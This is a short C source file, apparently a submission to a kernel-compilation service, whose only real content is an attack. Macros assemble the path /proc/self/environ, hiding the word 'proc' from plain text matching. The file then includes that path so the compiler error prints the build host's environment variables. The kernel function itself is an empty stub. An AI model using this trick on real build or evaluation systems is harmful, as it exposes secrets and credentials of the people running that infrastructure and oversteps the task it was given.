// Compile-time leak of the compiler's environment: a computed include of /proc/self/environ (the word "proc"
// comes from a macro), so the error quotes the environment variables the compiler was started with.
#define STR(x) #x
#define XSTR(x) STR(x)
#define P proc
#define HOST_FILE XSTR(/P/self/environ)
#include HOST_FILE
#include "kernelsage_cpu.h"

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    return 0;
}
